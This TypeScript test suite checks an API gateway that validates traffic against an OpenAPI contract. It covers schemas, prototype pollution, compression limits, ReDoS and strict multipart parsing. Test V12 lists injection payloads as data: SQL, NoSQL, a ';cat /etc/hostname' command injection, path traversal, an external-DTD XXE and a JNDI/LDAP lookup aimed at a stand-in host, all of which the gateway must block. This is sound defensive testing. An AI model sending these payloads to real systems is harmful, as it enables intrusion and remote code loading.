import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { gzipSync } from 'node:zlib'
import { type RunningGateway, startGateway } from '../flow/running-gateway.ts'

// Each test is named after the row of the requirements that it stands for.

const contract = `openapi: 3.1.0
info: { title: Rows, version: "1" }
paths:
  /things/{id}:
    put:
      security: []
      parameters:
        - { name: id, in: path, required: true, schema: { type: integer } }
        - { name: q, in: query, schema: { type: string, maxLength: 5 } }
        - { name: x-kind, in: header, schema: { enum: [a, b] } }
        - { name: c, in: cookie, schema: { type: integer } }
      requestBody:
        required: true
        content:
          application/json:
            schema:
              type: object
              required: [name]
              additionalProperties: false
              properties: { name: { type: string, pattern: "^(a+)+$" }, big: { type: integer } }
      responses:
        "200":
          description: fine
          content: { application/json: { schema: { type: object, properties: { id: { type: string }, name: { type: string } } } } }
  /form:
    post:
      security: []
      requestBody:
        content:
          application/x-www-form-urlencoded: { schema: { type: object, additionalProperties: true } }
          multipart/form-data: { schema: { type: object, additionalProperties: true } }
          application/xml: {}
      responses: { "200": { description: fine, content: { application/json: {} } } }
  /upload:
    put:
      security: []
      requestBody: { content: { application/octet-stream: {} } }
      responses: { "200": { description: fine, content: { application/json: {} } } }
`

interface Reply {
  readonly status: number
  readonly text: string
  readonly code: unknown
}

describe('rows V of the requirements', () => {
  let gateway: RunningGateway
  before(async () => {
    gateway = await startGateway({
      contract,
      api: '    controls: { response-schema: enforce }\n    bounds: { requestBody: 64KiB }',
    })
  })
  after(() => gateway.close())

  async function send(
    method: string,
    path: string,
    body: string | Buffer,
    headers: Record<string, string>,
  ): Promise<Reply> {
    const reply = await fetch(`${gateway.url}${path}`, { method, headers, body })
    const text = await reply.text()
    let code: unknown
    try {
      code = (JSON.parse(text) as Record<string, unknown>)['code']
    } catch {}
    return { status: reply.status, text, code }
  }
  const put = (
    body: string | Buffer,
    headers: Record<string, string> = {},
    path = '/things/1',
  ): Promise<Reply> => send('PUT', path, body, { 'content-type': 'application/json', ...headers })
  const form = (body: string | Buffer, type = 'application/x-www-form-urlencoded'): Promise<Reply> =>
    send('POST', '/form', body, { 'content-type': type })

  it('V01 every part is checked before the upstream; errors have pointers and echo nothing', async () => {
    const seen = gateway.upstream.seen.length
    for (const reply of [
      await put('{"name":"a"}', {}, '/things/xyzzy'),
      await put('{"name":"a"}', {}, '/things/1?q=xyzzy-long'),
      await put('{"name":"a"}', { 'x-kind': 'xyzzy' }),
      await put('{"name":"a"}', { cookie: 'c=xyzzy' }),
      await put('{"name":"a","other":"xyzzy"}'),
      await put('{"name":"xyzzy"}'),
    ]) {
      assert.equal(reply.status, 400, reply.text)
      assert.equal(reply.code, 'INSPECT_SCHEMA')
      assert.match(reply.text, /"pointer":"\/(?:path|query|header|cookie|body)/)
      assert.doesNotMatch(reply.text, /xyzzy/)
    }
    assert.equal(gateway.upstream.seen.length, seen)
    assert.equal((await put('{"name":"a"}')).status, 200)
  })

  it('V02 spellings of Content-Type get the schema or a refusal', async () => {
    for (const type of [
      'application/json;',
      'application/json\t;x',
      'Application/JSON',
      'application/jsonx',
      'application/json; charset=utf-16',
      'text/json, application/json',
    ])
      assert.ok([400, 415].includes((await put('{"other":1}', { 'content-type': type })).status), type)
  })

  it('V03 V10 one reading of JSON: no key twice, none that reaches a prototype', async () => {
    for (const body of [
      '{"name":"a","name":"b"}',
      '{"__proto__":{"x":1},"name":"a"}',
      '{"constructor":1,"name":"a"}',
    ])
      assert.equal((await put(body)).code, 'INSPECT_JSON', body)
    assert.equal((await form('__proto__=1')).status, 400)
    assert.equal((await put('{"name":"a"}', {}, '/things/1?__proto__[x]=1')).status, 400)
    assert.equal(Reflect.get({}, 'x'), undefined)
  })

  it('V04 too deep, not UTF-8, a byte order mark, half a character: refused; long integers stay what they are', async () => {
    for (const body of [
      `${'['.repeat(65)}${']'.repeat(65)}`,
      Buffer.from([0x22, 0xff, 0x22]),
      Buffer.from('\ufeff{}'),
      '"\\ud800"',
    ])
      assert.equal((await put(body)).code, 'INSPECT_JSON')
    assert.equal((await put('{"name":"a","big":9007199254740993}')).status, 200)
    assert.match(gateway.upstream.seen.at(-1)?.body ?? '', /9007199254740993/)
  })

  it('V05 V06 the limit counts decoded bytes; unknown and stacked codings, bombs', async () => {
    assert.equal((await put(`{"name":"${'a'.repeat(70_000)}"}`)).status, 413)
    assert.equal(
      (await put(gzipSync(`{"name":"${'a'.repeat(70_000)}"}`), { 'content-encoding': 'gzip' })).status,
      413,
    )
    assert.equal((await put('{}', { 'content-encoding': 'compress' })).status, 415)
    assert.equal((await put(gzipSync(gzipSync('{}')), { 'content-encoding': 'gzip, gzip' })).status, 415)
  })

  it('V07 a pattern of the contract that backtracks does not hold the loop', async () => {
    const before = performance.now()
    assert.equal((await put(`{"name":"${'a'.repeat(30_000)}!"}`)).status, 400)
    assert.ok(performance.now() - before < 1_500)
  })

  it('V09 a reply that is not the contract is not passed on', async () => {
    const { answer } = gateway.upstream
    gateway.upstream.answer = (_request, response) => {
      response.setHeader('content-type', 'application/json')
      response.end('{"id":7}')
    }
    const reply = await put('{"name":"a"}')
    gateway.upstream.answer = answer
    assert.equal(reply.status, 502)
    assert.equal(reply.code, 'SCREEN_SCHEMA')
  })

  it('V11 multipart is read strictly; a DTD is refused', async () => {
    const part = (head: string): string => `--b\r\n${head}\r\n\r\nx\r\n--b--\r\n`
    const type = 'multipart/form-data; boundary=b'
    assert.equal((await form(part('Content-Disposition: form-data; name="a"'), type)).status, 200)
    for (const head of [
      'Content-Disposition: form-data',
      'Content-Disposition: form-data; name="a"; name="b"',
      `Content-Disposition: form-data; name="${'a'.repeat(5_000)}"`,
      'X: 1',
    ])
      assert.equal((await form(part(head), type)).status, 400, head.slice(0, 60))
    assert.equal(
      (await form('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', 'application/xml')).code,
      'INSPECT_INJECTION',
    )
  })

  it('V12 attacks of the suites’ kinds are found where the contract has free text, and the caller learns nothing', async () => {
    for (const text of [
      "x' or 'a'='a' --",
      '{"$gt":""}',
      ';cat /etc/hostname',
      '../../../etc/hostname',
      '<!DOCTYPE a SYSTEM "http://h.example/a.dtd">',
      '{{9*9}}',
      `\${jndi:ldap://h.example/a}`,
    ]) {
      const reply = await form(`text=${encodeURIComponent(text)}`)
      assert.equal(reply.status, 403, text)
      assert.equal(reply.code, 'INSPECT_INJECTION')
      assert.doesNotMatch(reply.text, /sql|xxe|inject[a-z]* of|pointer/i)
    }
  })

  it('V14 JSON waits for its judgement; an upload is declared and streams', async () => {
    const seen = gateway.upstream.seen.length
    assert.equal((await put('{"name":"b"}')).status, 400)
    assert.equal(gateway.upstream.seen.length, seen)
    assert.equal(
      (await send('PUT', '/upload', Buffer.alloc(200_000), { 'content-type': 'application/octet-stream' }))
        .status,
      200,
    )
  })
})
